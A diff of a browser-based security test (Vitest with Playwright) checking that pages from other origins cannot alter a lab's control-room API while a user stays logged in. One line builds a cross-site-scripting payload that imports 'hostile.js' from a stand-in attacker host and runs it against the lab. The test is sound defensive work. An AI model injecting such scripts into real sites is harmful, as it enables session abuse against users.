@@ -1,29 +1,21 @@
 // No page of another origin changes anything in the control room, in a real Chromium: not at once, not by a click, and not
 // by way of the page with the hole.
-import type { LabState } from '@scale-out-lab/core/wire';
 import { until } from '@scale-out-lab/launcher/testing/until';
-import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import type { BrowserContext } from 'playwright-core';
+import { afterAll, beforeAll, describe, expect } from 'vitest';
 import { type Attacker, startAttacker } from '../support/browser/attacker.js';
-import { useChromium } from '../support/browser/chromium.js';
-import { type RunningLab, startLabForTest } from '../support/lab.js';
-import { createPage } from '../support/page.js';
+import { type Control, it } from '../support/browser/page-test.js';
 
-const openContext = useChromium();
-let lab: RunningLab;
 let attacker: Attacker;
-let page: ReturnType<typeof createPage>;
-
 beforeAll(async () => {
-  lab = await startLabForTest({ INSTANCES: '2' });
   attacker = await startAttacker();
-  page = createPage(lab.url);
-}, 60_000);
-afterAll(() => Promise.all([lab?.stop(), attacker?.stop()]));
+});
+afterAll(() => attacker?.stop());
 
 /** All that a request to the control room could change. A slow answer is no change, so liveness is left out. */
-async function readControlRoom() {
-  const { instances, redis, busy } = (await page.ask<LabState>('GET', 'state')).body;
-  const listening = await page.listen();
+async function readControlRoom(control: Control) {
+  const { instances, redis, busy } = await control.state();
+  const listening = await control.listen();
   await until(() => listening.heard.length > 0);
   const [snapshot] = listening.heard;
   await listening.cut();
@@ -31,7 +23,7 @@ async function readControlRoom() {
     instances: instances.map(({ id, startedAt, keys }) => ({ id, startedAt, keys })),
     redis: redis?.isPersistent,
     busy,
-    runs: (await page.ask<{ runs: unknown }>('GET', 'runs')).body.runs,
+    runs: (await control.ask<{ runs: unknown }>('GET', 'runs')).body.runs,
     incidents:
       snapshot?.name === 'snapshot'
         ? snapshot.data.incidents.filter(({ isAsked }) => isAsked)
@@ -40,16 +32,15 @@ async function readControlRoom() {
 }
 
 /**
- * What the script at `address` says that it got, when it is opened and when somebody clicks, in the browser of a user of the
- * API who is still logged in afterwards.
+ * The outcomes that the script at `address` reports when the page opens and at a click, in the browser of a user of the API.
+ * The user is still logged in afterwards.
  */
-async function open(address: string, { clicks = false } = {}) {
-  const browser = await openContext();
-  const api = `${lab.url}/api/session-redis`;
+async function visit(browser: BrowserContext, lab: string, address: string, { clicks = false } = {}) {
+  const api = `${lab}/api/session-redis`;
   await browser.request.post(`${api}/login`, { data: { username: 'alice', password: 'demo' } });
   const changes: number[] = [];
   browser.on('response', (response) => {
-    const isChange = response.url().startsWith(`${lab.url}/lab/`) && response.request().method() !== 'GET';
+    const isChange = response.url().startsWith(`${lab}/lab/`) && response.request().method() !== 'GET';
     if (isChange) changes.push(response.status());
   });
   const tab = await browser.newPage();
@@ -64,7 +55,6 @@ async function open(address: string, { clicks = false } = {}) {
   expect((await browser.request.get(`${api}/me`)).status()).toBe(200);
   // They arrived, and were refused.
   expect(new Set(changes)).toEqual(new Set([403]));
-  await browser.close();
   return loot.map(({ body }) => JSON.parse(body) as { when: string; outcomes: Record<string, string> });
 }
 
@@ -72,20 +62,27 @@ describe.each([
   ['another site', 'otherSite'],
   ['another port of this machine', 'sameSite'],
 ] as const)('a page of %s', (_where, origin) => {
-  it('changes nothing when it opens, and nothing at a click', { timeout: 60_000 }, async () => {
-    const before = await readControlRoom();
+  it('changes nothing when it opens, and nothing at a click', async ({ lab, control, openContext }) => {
+    const before = await readControlRoom(control);
     const target = encodeURIComponent(lab.url);
-    const attacks = await open(`${attacker[origin]}/hostile?target=${target}`, { clicks: true });
+    const attacks = await visit(
+      await openContext(),
+      lab.url,
+      `${attacker[origin]}/hostile?target=${target}`,
+      {
+        clicks: true,
+      },
+    );
     expect(attacks.map(({ when }) => when)).toEqual(['opened', 'clicked']);
     for (const { outcomes } of attacks) {
       expect(outcomes).toMatchObject({
         'a request': 'TypeError',
-        'a request that asks for leave': 'TypeError',
+        'a request with a preflight': 'TypeError',
         'a request with JSON': 'TypeError',
         'what the control room holds': 'TypeError',
       });
     }
-    expect(await readControlRoom()).toEqual(before);
+    expect(await readControlRoom(control)).toEqual(before);
   });
 });
 
@@ -97,20 +94,19 @@ describe('a link to the page with the hole', () => {
     return `${attacker.otherSite}/link?target=${encodeURIComponent(link)}`;
   };
 
-  it.each(['url', 'storageUrl'] as const)(
+  it.for(['url', 'storageUrl'] as const)(
     'at its %s runs a script that changes nothing in the control room',
-    { timeout: 60_000 },
-    async (base) => {
-      const before = await readControlRoom();
+    async (base, { lab, control, openContext }) => {
+      const before = await readControlRoom(control);
       const script = `import('${attacker.otherSite}/hostile.js').then(({ attack }) => attack('${lab.url}', 'injected'))`;
-      const [injected] = await open(greet(lab.cluster[base], script));
+      const [injected] = await visit(await openContext(), lab.url, greet(lab.cluster[base], script));
       expect(injected?.outcomes).toMatchObject({
         'a request to its own origin': '404',
         'a run at its own origin': '404',
-        'a request that asks for leave': 'TypeError',
+        'a request with a preflight': 'TypeError',
         'what the control room holds': 'TypeError',
       });
-      expect(await readControlRoom()).toEqual(before);
+      expect(await readControlRoom(control)).toEqual(before);
     },
   );
 });
